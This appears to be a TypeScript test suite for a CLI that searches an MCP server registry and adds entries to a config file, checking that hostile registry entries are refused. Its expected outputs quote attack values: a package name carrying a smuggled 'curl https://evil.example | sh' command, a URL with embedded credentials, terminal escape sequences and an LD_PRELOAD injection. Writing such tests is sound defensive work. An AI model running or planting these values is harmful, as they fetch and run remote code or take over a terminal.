import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { ROOT } from './helpers';
import { CLI, runCli, runOnTerminal, type CliRun } from './cliRun';

interface Fixture {
  readonly url: string;
  readonly requests: string[];
  close(): Promise<void>;
}
// eslint-disable-next-line @typescript-eslint/no-require-imports
const { startRegistry } = require(path.join(ROOT, 'test/fixtures/registry/registryServer.cjs')) as { startRegistry(): Promise<Fixture> };
// eslint-disable-next-line @typescript-eslint/no-require-imports
const hostileNames = (require(path.join(ROOT, 'test/fixtures/registry/entries.cjs')) as { hostile: { server?: { name: string } }[] }).hostile.map((i) => i.server?.name).filter((n): n is string => n !== undefined && /^[\w./-]+$/.test(n));

/**
 * The CLI's `search` and `add` as a user runs them (node dist/cli.js, a process per command)
 * against the fixture registry on loopback; the server `add` writes is then started and called.
 */
describe('CLI search and add (node dist/cli.js, a fixture registry)', function () {
  this.timeout(120_000);
  let registry: Fixture;
  let dir: string;

  /** The CLI run from the project folder (npx finds the pinned server-everything in its node_modules, offline), no policy file but `env`'s. */
  function cli(args: string[], env: NodeJS.ProcessEnv = {}): Promise<CliRun> {
    const all: NodeJS.ProcessEnv = { ...process.env, XDG_STATE_HOME: path.join(dir, 'state'), npm_config_offline: 'true', ...env };
    if (env.MCP_TOOL_HOST_POLICY_FILE === undefined) delete all.MCP_TOOL_HOST_POLICY_FILE;
    if (env.MCP_TOOL_HOST_REGISTRY === undefined) delete all.MCP_TOOL_HOST_REGISTRY;
    return runCli(args, { cwd: ROOT, env: all });
  }
  const file = (name: string) => path.join(dir, name);

  before(async () => {
    assert.ok(fs.existsSync(CLI), 'dist/cli.js is missing: run `node esbuild.mjs` first');
    registry = await startRegistry();
    dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcp-cli-registry-')));
  });
  after(async () => {
    await registry.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('search lists what each server runs, hostile entries with why they cannot be installed, and the next page', async () => {
    const found = await cli(['search', 'everything', '--registry', registry.url]);
    assert.equal(found.code, 0, found.stderr);
    assert.match(found.stdout, /^io\.github\.modelcontextprotocol\/everything \d+\.\d+\.\d+ {2}Everything\n {2}MCP server that exercises/);
    assert.match(found.stdout, /runs: npm @modelcontextprotocol\/server-everything@/);
    const hostile = await cli(['search', 'com.example', '--registry', registry.url]);
    assert.match(hostile.stdout, /com\.example\/escapes 1\.0\.0 {2}Totally \\u001B\[32mSafe\\u001B\[0m/);
    assert.match(hostile.stdout, /cannot install npm x; curl https:\/\/evil\.example \| sh@1\.0\.0: "x; curl https:\/\/evil\.example \| sh" is not an npm package name/);
    assert.match(hostile.stdout, /cannot install remote https:\/\/admin:hunter2@mcp\.evil\.example\/mcp: its URL carries a user name or password/);
    assert.match(hostile.stdout, /not shown: com\.example\/\\u001B\[2Jwiped: its name is not a registry name/);
    // eslint-disable-next-line no-control-regex
    assert.ok(!/[\u001b\u202e]/.test(hostile.stdout), 'nothing the registry sent acts on the terminal');
    const first = await cli(['search', '--registry', registry.url]);
    const more = /More: mcp-tool-host search --cursor (\S+) --registry /.exec(first.stdout);
    assert.ok(more, first.stdout.slice(-300));
    const second = await cli(['search', '--registry', registry.url, '--cursor', more[1], '--json']);
    const page = JSON.parse(second.stdout) as { entries: { name: string }[]; nextCursor?: string };
    assert.equal(page.entries[0].name, 'com.example/privileged', 'the second page starts where the first ended');
    assert.equal(page.nextCursor, undefined, 'and is the last');
  });

  it('add writes the entry into the config, keeping its other content, and the server it wrote starts and answers a call', async () => {
    const config = file('mine.json');
    fs.writeFileSync(config, '// my servers\n{\n  "servers": {\n    "notes": { "command": "node", "args": ["notes.js"], "disabled": true }\n  },\n  "other": 1\n}\n');
    const added = await cli(['add', 'io.github.modelcontextprotocol/everything', '--registry', registry.url, '--config', config, '--yes']);
    assert.equal(added.code, 0, added.stderr);
    const version = (JSON.parse(fs.readFileSync(path.join(ROOT, 'node_modules/@modelcontextprotocol/server-everything/package.json'), 'utf8')) as { version: string }).version;
    assert.match(added.stdout, new RegExp(`It will run: npx -y @modelcontextprotocol/server-everything@${version.replace(/\./g, '\\.')}\n`));
    assert.match(added.stdout, /The registry claims \(not checked\):\n {2}Description: MCP server that exercises/);
    const text = fs.readFileSync(config, 'utf8');
    assert.ok(text.startsWith('// my servers\n'), 'the comment is kept');
    assert.match(text, /"other": 1/);
    assert.match(text, /"notes"/);
    const call = await cli(['call', 'everything', 'echo', '--args', '{"message":"from the registry"}', '--config', config]);
    assert.equal(call.code, 0, call.stderr);
    assert.match(call.stdout, /from the registry/);
  });

  it('add refuses every hostile entry, writes nothing, and says why', async () => {
    assert.ok(hostileNames.length >= 15);
    for (const name of hostileNames) {
      const config = file('hostile.json');
      const run = await cli(['add', name, '--registry', registry.url, '--config', config, '--yes']);
      assert.equal(run.code, 2, `${name}: ${run.stdout}${run.stderr}`);
      assert.match(run.stderr, /cannot be installed, nothing was written:\n {2}\S/, name);
      assert.ok(!fs.existsSync(config), `${name} wrote nothing`);
    }
  });

  it('add refuses a name the file has already unless --replace, and asks on a pipe for --yes', async () => {
    const config = file('twice.json');
    const everything = ['add', 'io.github.modelcontextprotocol/everything', '--registry', registry.url, '--config', config];
    assert.equal((await cli([...everything, '--yes'])).code, 0);
    const before = fs.readFileSync(config, 'utf8');
    const again = await cli([...everything, '--yes']);
    assert.equal(again.code, 2);
    assert.match(again.stderr, /already has a server named "everything": nothing was written\. Pass --name OTHER, or --replace/);
    assert.equal((await cli([...everything, '--yes', '--name', 'everything 2'])).code, 0);
    assert.equal((await cli([...everything, '--yes', '--replace'])).code, 0);
    assert.deepEqual(Object.keys((JSON.parse(fs.readFileSync(config, 'utf8')) as { servers: object }).servers), ['everything', 'everything 2']);
    const piped = await cli([...everything, '--name', 'third']);
    assert.equal(piped.code, 3);
    assert.match(piped.stderr, /Nothing was written\. Run on a terminal to be asked, or pass --yes\./);
    assert.ok(!fs.readFileSync(config, 'utf8').includes('third'));
    assert.notEqual(before, '');
  });

  it('add on a terminal shows what will run and writes only after y', async () => {
    const config = file('asked.json');
    const args = ['add', 'io.github.modelcontextprotocol/everything', '--registry', registry.url, '--config', config];
    const env: NodeJS.ProcessEnv = { ...process.env, XDG_STATE_HOME: path.join(dir, 'state') };
    delete env.MCP_TOOL_HOST_POLICY_FILE;
    const no = await runOnTerminal(args, ['n'], { cwd: dir, env });
    assert.equal(no.code, 3);
    assert.match(no.output, /It will run: npx -y @modelcontextprotocol\/server-everything@[\s\S]*Write "everything" to .*asked\.json\? \[y\/N\]/);
    assert.ok(!fs.existsSync(config));
    const yes = await runOnTerminal(args, ['y'], { cwd: dir, env });
    assert.equal(yes.code, 0, yes.output);
    assert.ok(fs.existsSync(config));
  });

  it('add never writes a secret: it reads it from a variable of its own and says which to export; values come from --set', async () => {
    const config = file('weather.json');
    const weather = ['add', 'com.example/weather', '--registry', registry.url, '--config', config, '--yes'];
    const missing = await cli(weather);
    assert.equal(missing.code, 2);
    assert.match(missing.stderr, /It needs values before it can be written:\n {2}--set tenant=VALUE {2}\(Your tenant\)/);
    const secretSet = await cli([...weather, '--set', 'tenant=acme', '--set', 'api_key=hunter2']);
    assert.equal(secretSet.code, 2);
    assert.match(secretSet.stderr, /api_key is a secret: it is never written into the file\. Leave out --set api_key=\.\.\., and export MCP_INPUT_WEATHER_API_KEY/);
    const wrongChoice = await cli([...weather, '--set', 'tenant=acme', '--set', 'X-Region=mars']);
    assert.match(wrongChoice.stderr, /X-Region must be one of eu, us, not "mars"/);
    const unknown = await cli([...weather, '--set', 'tenant=acme', '--set', 'LD_PRELOAD=x']);
    assert.match(unknown.stderr, /asks for no "LD_PRELOAD"\. It asks for: tenant, api_key, X-Region\./);
    assert.ok(!fs.existsSync(config));
    const added = await cli([...weather, '--set', 'tenant=acme']);
    assert.equal(added.code, 0, added.stderr);
    assert.match(added.stdout, /Before starting it, export:\n {2}MCP_INPUT_WEATHER_API_KEY {2}\(api_key: The API key\)/);
    assert.deepEqual(JSON.parse(fs.readFileSync(config, 'utf8')), {
      servers: { weather: { type: 'http', url: 'https://acme.weather.example.com/mcp', headers: { Authorization: 'Bearer ${env:MCP_INPUT_WEATHER_API_KEY}', 'X-Region': 'eu' } } },
    });
  });

  it('the registry comes from --registry, else MCP_TOOL_HOST_REGISTRY; a policy file that pins it refuses any other, naming itself', async () => {
    const fromEnv = await cli(['search', 'weather'], { MCP_TOOL_HOST_REGISTRY: registry.url });
    assert.equal(fromEnv.code, 0, fromEnv.stderr);
    assert.match(fromEnv.stdout, /^com\.example\/weather/);
    const policy = file('policy.json');
    fs.writeFileSync(policy, JSON.stringify({ registryUrl: registry.url }));
    const pinned = await cli(['search', 'weather'], { MCP_TOOL_HOST_POLICY_FILE: policy });
    assert.equal(pinned.code, 0, pinned.stderr);
    assert.match(pinned.stdout, /^com\.example\/weather/);
    for (const [args, env, what] of [[['--registry', 'https://registry.other.example'], {}, '--registry'], [[], { MCP_TOOL_HOST_REGISTRY: 'https://registry.other.example' }, 'MCP_TOOL_HOST_REGISTRY']] as const) {
      const refused = await cli(['search', 'weather', ...args], { MCP_TOOL_HOST_POLICY_FILE: policy, ...env });
      assert.equal(refused.code, 2);
      assert.equal(refused.stderr, `The policy file ${policy} pins the registry to ${registry.url}; ${what} https://registry.other.example is refused.\n`);
    }
    const count = registry.requests.length;
    fs.writeFileSync(policy, '{ not json');
    const broken = await cli(['search', 'weather', '--registry', registry.url], { MCP_TOOL_HOST_POLICY_FILE: policy });
    assert.equal(broken.code, 2);
    assert.match(broken.stderr, /is not valid JSON, so whether it pins a registry is not known\. Nothing was asked of any registry\./);
    assert.equal(registry.requests.length, count);
  });

  it('a registry that cannot be used is one sentence: not https (exit 2), not reachable (exit 4)', async () => {
    const plain = await cli(['search', 'x', '--registry', 'http://registry.example']);
    assert.equal(plain.code, 2);
    assert.equal(plain.stderr, 'The registry URL must be https (http only to this machine), not "http://registry.example".\n');
    const closed = await startRegistry();
    await closed.close();
    const gone = await cli(['search', 'x', '--registry', closed.url]);
    assert.equal(gone.code, 4);
    assert.equal(gone.stderr, `The registry at ${closed.url} could not be reached (ECONNREFUSED).\n`);
    const misplaced = await cli(['tools', '--registry', registry.url, '--config', file('mine.json')]);
    assert.equal(misplaced.code, 2);
    assert.match(misplaced.stderr, /--registry is for search and add, not tools\./);
  });
});
